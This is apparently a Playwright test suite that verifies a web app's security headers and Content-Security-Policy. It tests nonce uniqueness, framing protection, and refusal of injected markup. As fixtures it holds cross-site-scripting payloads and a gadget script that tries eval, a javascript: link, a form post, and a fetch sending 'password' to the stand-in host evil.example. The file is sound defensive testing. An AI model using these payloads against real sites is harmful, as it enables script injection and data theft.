import { createHash } from "node:crypto";
import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { site } from "@/app/site";
import { expect, test, type Page } from "../fixtures";
import { isBrowserError, recordBrowserErrors } from "../support/console-errors";
import { recordOf, sealedSession, send } from "../support/http";
import { addUser } from "../support/users";
import { protectedPages, publicPages } from "../support/routes";

const policyOf = (response: Response): string =>
  response.headers.get("content-security-policy") ?? "";

const answers: readonly (readonly [
  what: string,
  path: string,
  status: number,
  init?: RequestInit,
])[] = [
  ["the home page", "/", 200],
  ["a page for a crawler", "/", 200, { headers: { accept: "*/*", "user-agent": "Googlebot" } }],
  ["the head of a page", "/login", 200, { method: "HEAD" }],
  ["a whole page", "/login", 200, { headers: { cookie: "__Host-noscript=1" } }],
  ["a soft navigation", "/login?_rsc", 200, { headers: { rsc: "1" } }],
  ["a redirect of the guard", "/account", 307],
  ["an unknown page", "/nowhere", 404],
  ["an unknown page with a file ending", "/nowhere.html", 404],
  ["a malformed path", "/%", 404],
  ["a method that pages do not support", "/login", 405, { method: "PUT" }],
  [
    "an unknown action",
    "/login",
    400,
    { method: "POST", headers: { "next-action": "40abc", "content-type": "text/plain" } },
  ],
  ["a handler", "/api/session", 200],
  ["a handler that refuses the body", "/api/login", 400, { method: "POST", body: "not JSON" }],
  ["a handler with the wrong method", "/api/session", 405, { method: "PUT" }],
  ["an unknown handler", "/api/nowhere", 404],
  ["a picture", "/icon.svg", 200],
  ["an unknown picture", "/nowhere.png", 404],
  ["a stylesheet", "/assets/noscript.css", 200],
  ["the stylesheet for browsers without JavaScript", "/api/noscript", 200],
  ["an unknown script", "/_next/static/nowhere.js", 404],
];

test("every kind of response has the security headers", async ({ server }) => {
  for (const [what, path, status, init] of answers) {
    const response = await send(server, path, init);
    expect([what, response.status]).toEqual([what, status]);
    const directives = policyOf(response).split("; ");
    const none = ["default-src", "object-src", "base-uri", "frame-ancestors"];
    expect(directives, what).toEqual(
      expect.arrayContaining([...none.map((name) => `${name} 'none'`), "form-action 'self'"]),
    );
    // A comma would separate a second policy, and browsers enforce the intersection.
    expect(policyOf(response), what).not.toMatch(/,|unsafe|\*|https?:|undefined/);
    expect(Object.fromEntries(response.headers), what).toMatchObject({
      "strict-transport-security": "max-age=63072000; includeSubDomains",
      "x-content-type-options": "nosniff",
      "referrer-policy": "strict-origin-when-cross-origin",
      "cross-origin-opener-policy": "same-origin",
      ...(path.startsWith("/api/session") && { "cross-origin-resource-policy": "same-origin" }),
    });
  }
});

test("private pages and handlers are no-store", async ({ server }) => {
  const user = recordOf(await addUser(server.databaseUrl, "Dee"));
  const headers = { cookie: await sealedSession(server, user) };
  for (const path of [...protectedPages, "/api/session", "/api/sessions"]) {
    const response = await send(server, path, { headers });
    expect([path, response.status]).toEqual([path, 200]);
    expect(response.headers.get("cache-control"), path).toContain("no-store");
  }
});

/** The scripts of a page that its policy refuses: no file of this site, no nonce and no known hash. */
function refusedScripts(html: string, policy: string): string[] {
  const nonce = /'nonce-([^']+)'/.exec(policy)?.[1] ?? "no nonce";
  const scripts = [...html.matchAll(/<script([^>]*)>([\s\S]*?)<\/script>/g)];
  expect(scripts.length).toBeGreaterThan(5);
  return scripts
    .filter(([, attributes = "", text = ""]) => {
      if (attributes.includes(`nonce="${nonce}"`)) return false;
      if (!text) return !attributes.includes('src="/_next/static/');
      return !policy.includes(createHash("sha256").update(text).digest("base64"));
    })
    .map(([script]) => script);
}

test("the policy of every page allows every script of it, streamed or whole", async ({
  server,
}) => {
  const user = {
    cookie: await sealedSession(server, recordOf(await addUser(server.databaseUrl, "Eve"))),
  };
  const whole = { cookie: "__Host-noscript=1" };
  for (const path of [...publicPages, ...protectedPages, "/nowhere"]) {
    for (const headers of [{}, whole, user]) {
      const response = await fetch(new URL(path, server.origin), { headers });
      expect(refusedScripts(await response.text(), policyOf(response)), path).toEqual([]);
    }
  }
});

test("a nonce has 128 bits, is used once and cannot be chosen by the client", async ({
  server,
}) => {
  const chosen = "script-src 'nonce-chosen'";
  const nonces = new Set<string>();
  for (let times = 0; times < 20; times++) {
    const response = await send(server, "/login", {
      headers: { "content-security-policy": chosen },
    });
    const nonce = /'nonce-([A-Za-z0-9+/]{22}==)'/.exec(policyOf(response))?.[1];
    expect(nonce).toBeDefined();
    nonces.add(nonce ?? "");
    expect(await response.text()).not.toContain("chosen");
  }
  expect(nonces.size).toBe(20);
});

test.describe("without JavaScript", () => {
  test.use({ javaScriptEnabled: false });

  test("pages and forms work without a violation", async ({ page }) => {
    const errors: string[] = [];
    page.on("console", (message) => {
      if (isBrowserError(message)) errors.push(message.text());
    });
    for (const path of [...publicPages, "/signup"]) await page.goto(path);
    await page.getByRole("button", { name: "Sign up" }).click();
    await expect(page.getByText("Enter your name.")).toBeVisible();
    expect(errors).toEqual([]);
  });
});

/** Markup that an injection could add to a page, and the directive that refuses it. */
const injections: readonly (readonly [directive: string, html: string])[] = [
  ["script-src-elem", `<script>document.title="pwned"</script>`],
  ["script-src-elem", `<script nonce="${"A".repeat(22)}==">document.title="pwned"</script>`],
  ["script-src-elem", `<script src="https://evil.example/pwn.js"></script>`],
  ["script-src-elem", `<script src="data:text/javascript,document.title='pwned'"></script>`],
  ["script-src-attr", `<img src="/nowhere.svg" onerror="document.title='pwned'">`],
  ["style-src-attr", `<p style="position:fixed;inset:0">Log in here</p>`],
  ["style-src-elem", `<link rel="stylesheet" href="https://evil.example/pwn.css">`],
  ["img-src", `<img src="https://evil.example/seen.gif">`],
  ["base-uri", `<base href="https://evil.example/">`],
  ["frame-src", `<iframe src="https://evil.example/"></iframe>`],
  ["object-src", `<object data="https://evil.example/pwn"></object>`],
];

/** Aborts requests to evil.example and adds them to the errors. */
const recordForeignRequests = (page: Page, errors: string[]) =>
  page.route("https://evil.example/**", (route) => {
    errors.push("evil.example was requested");
    return route.abort();
  });

test("the policy refuses injected scripts, styles, images, frames and base URLs", async ({
  page,
  server,
}) => {
  const errors = await recordBrowserErrors(page);
  await recordForeignRequests(page, errors);
  const html = injections.map(([, markup]) => markup).join("");
  await page.route(`${server.origin}/login`, async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace("</main>", `${html}</main>`);
    await route.fulfill({ response, body });
  });
  await page.goto("/login");
  const refusedBy = () =>
    errors.flatMap((error) => /^([a-z]+-(?:src-elem|src-attr|src|uri)) /.exec(error)?.[1] ?? []);
  const expected = injections.map(([directive]) => directive);
  await expect.poll(() => refusedBy().sort()).toEqual(expected.sort());
  expect(errors).not.toContain("evil.example was requested");
  await expect(page).toHaveTitle(`Log in · ${site.name}`);
});

/** What an attacker could make one of this site's scripts do. It runs as a file of this site. */
const gadget = `
  const attempt = (name, work) => work().then(() => reportViolation(name + " worked"), () => reportViolation(name + " was refused"));
  attempt("eval", async () => eval("1"));
  attempt("Function", async () => new Function("return 1")());
  attempt("fetch", () => fetch("https://evil.example/?password"));
  Object.assign(document.createElement("a"), { href: "javascript:reportViolation('javascript: worked')" }).click();
  const form = Object.assign(document.createElement("form"), { action: "https://evil.example/" });
  document.body.append(form);
  form.submit();
`;

test("a script of this site can neither run text nor send data to another site", async ({
  page,
}) => {
  const errors = await recordBrowserErrors(page);
  await recordForeignRequests(page, errors);
  await page.route("/gadget.js", (route) =>
    route.fulfill({ contentType: "text/javascript", body: gadget }),
  );
  await page.goto("/login");
  await page.evaluate(() =>
    document.body.append(Object.assign(document.createElement("script"), { src: "/gadget.js" })),
  );
  const refusals = [
    "eval was refused",
    "Function was refused",
    "fetch was refused",
    "script-src-elem inline",
    "form-action",
  ];
  for (const refusal of refusals) await expect.poll(() => errors.join("\n")).toContain(refusal);
  expect(errors.join("\n")).not.toMatch(/worked|evil.example was requested/);
});

test("another site cannot show a page in a frame", async ({ page, server }) => {
  const ours = `${server.origin}/login`;
  const evil = createServer((_, response) =>
    response.end(`<!doctype html><iframe src="${ours}"></iframe>`),
  );
  await once(evil.listen(0, "127.0.0.1"), "listening");
  const refused = page.waitForEvent("requestfailed", (request) => request.url() === ours);
  await page.goto(`http://127.0.0.1:${(evil.address() as AddressInfo).port}/`);
  expect((await refused).failure()?.errorText).toBe("net::ERR_BLOCKED_BY_RESPONSE");
  evil.close();
});
